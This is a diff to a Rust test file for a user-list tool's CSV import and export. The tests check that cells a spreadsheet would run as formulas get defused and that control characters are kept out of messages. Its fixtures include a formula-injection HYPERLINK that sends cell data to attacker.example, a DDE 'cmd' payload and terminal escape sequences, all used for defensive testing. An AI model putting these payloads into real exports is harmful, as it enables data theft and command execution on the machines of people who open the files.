@@ -330,16 +330,18 @@ fn hashing_elsewhere_gives_the_same_result_and_every_hash_is_needed() {
 }
 
 #[test]
-fn export_quotes_what_needs_it_leaves_passwords_out_and_picks_users() {
+fn export_quotes_every_cell_leaves_passwords_out_and_picks_users() {
     let mut file = sample();
     file.users[0].set_plaintext_password("secret!".into());
     file.users[1].set_display_name(Some("Smith, \"Ann\"".into()));
     let out = to_csv(&file, None);
+    // Every cell quoted (OWASP's advice), so a spreadsheet whose list
+    // separator is `;` does not split a cell either.
     assert_eq!(
         out,
         "Name,DisplayName,Email,Password,Groups\r\n\
-         jDoe,John Doe,john@example.com,,Developers\r\n\
-         asmith,\"Smith, \"\"Ann\"\"\",,,\"Developers;Ops\"\r\n"
+         \"jDoe\",\"John Doe\",\"john@example.com\",\"\",\"Developers\"\r\n\
+         \"asmith\",\"Smith, \"\"Ann\"\"\",\"\",\"\",\"Developers;Ops\"\r\n"
     );
     assert!(!out.contains("secret"));
     let one = to_csv(&file, Some(&["asmith", "nobody"]));
@@ -443,4 +445,121 @@ mod props {
             let _ = parse_csv(&text);
         }
     }
+}
+
+/// The cells of a CSV line written with every cell quoted, unquoted: a
+/// parser of its own, so the test does not trust the code it tests.
+fn quoted_cells(line: &str) -> Vec<String> {
+    let mut cells = Vec::new();
+    let mut rest = line;
+    while let Some(body) = rest.strip_prefix('"') {
+        let mut cell = String::new();
+        let mut chars = body.char_indices();
+        let end = loop {
+            match chars.next() {
+                Some((i, '"')) if body[i + 1..].starts_with('"') => {
+                    cell.push('"');
+                    chars.next();
+                }
+                Some((i, '"')) => break i + 1,
+                Some((_, c)) => cell.push(c),
+                None => panic!("unclosed quote in {line:?}"),
+            }
+        };
+        cells.push(cell);
+        rest = body[end..].strip_prefix(',').unwrap_or(&body[end..]);
+    }
+    assert!(rest.is_empty(), "an unquoted cell in {line:?}");
+    cells
+}
+
+#[test]
+fn exported_cells_a_spreadsheet_would_run_are_defused_and_read_back() {
+    let mut file = UsersFile::new();
+    let risky = [
+        "=HYPERLINK(\"http://attacker.example/?p=\"&D2,\"Click\")",
+        "+1+2",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTab",
+        "'=already quoted",
+        "fine",
+    ];
+    for (i, display) in risky.iter().enumerate() {
+        let mut user = User::new(format!("u{i}"));
+        user.set_display_name(Some((*display).to_owned()));
+        user.set_email_address(Some(format!("u{i}@example.com")));
+        user.set_groups(vec![format!("-group{i}"), "Ops".into()]);
+        file.users.push(user);
+    }
+    file.users.push(User::new("=cmd|' /C calc'!A0"));
+    let out = to_csv(&file, None);
+    for line in out.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
+        for cell in quoted_cells(line) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run in a spreadsheet"
+            );
+        }
+    }
+    assert!(out.contains("\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\""));
+    assert!(out.contains("\"''=already quoted\""));
+    assert!(out.contains("\"fine\""));
+    // Reading the export back takes the `'` off: the same users.
+    let back = parse_csv(&out).unwrap();
+    assert!(back.bad_rows.is_empty(), "{:?}", back.bad_rows);
+    for (row, user) in back.rows.iter().zip(&file.users) {
+        assert_eq!(row.name, user.user_name);
+        let display = user.display_name.as_deref().map(str::trim);
+        assert_eq!(row.display_name.as_deref(), display);
+        assert_eq!(row.groups.as_ref(), Some(&user.groups));
+    }
+    assert_eq!(csv::defuse("=1"), "'=1");
+    assert_eq!(csv::defuse("'@x"), "''@x");
+    assert_eq!(csv::defuse("a=1"), "a=1");
+    assert_eq!(csv::defuse("'plain"), "'plain");
+}
+
+#[test]
+fn csv_messages_never_carry_control_characters() {
+    let evil = "evil\u{1b}[2J\u{7}";
+    let e = parse_csv(&format!("Name,{evil}\na,b\n")).unwrap_err();
+    let users = parse_csv(&format!(
+        "Name,Email\n\"x{evil}\",\n{evil},x@example.com\nb,\"{evil}@x\"\nb2,b@example.com\nB2,c@example.com\n"
+    ))
+    .unwrap();
+    let mut shown = vec![e.to_string()];
+    shown.extend(users.bad_rows.iter().map(|r| r.to_string()));
+    let file = UsersFile::new();
+    shown.extend(preview(&file, &users).lines());
+    assert!(users.bad_rows.len() >= 3, "{:?}", users.bad_rows);
+    for text in shown {
+        assert!(
+            !text.chars().any(proget_users_core::text::is_unsafe),
+            "{text:?}"
+        );
+    }
+}
+
+#[test]
+fn lone_carriage_returns_and_unclosed_quotes_are_found_on_their_lines() {
+    let users = parse_csv("Name,DisplayName\ra,A\r\rb\rc,\"two\rlines\"\r,x\r").unwrap();
+    assert_eq!(
+        users.rows.iter().map(|r| r.line).collect::<Vec<_>>(),
+        [2, 5]
+    );
+    assert_eq!(users.rows[1].display_name.as_deref(), Some("two\nlines"));
+    assert_eq!(
+        users.bad_rows.iter().map(|r| r.line).collect::<Vec<_>>(),
+        [4, 7]
+    );
+    assert_eq!(
+        parse_csv("Name,DisplayName\r\na,\"ok\r\nstill\"\r\nb,x\r\n\r\nc,\"never\r\nclosed\r\n")
+            .unwrap_err(),
+        CsvError::UnterminatedQuote { line: 6 }
+    );
+    assert_eq!(
+        parse_csv("sep=;\nName;DisplayName\na;\"open").unwrap_err(),
+        CsvError::UnterminatedQuote { line: 3 }
+    );
 }
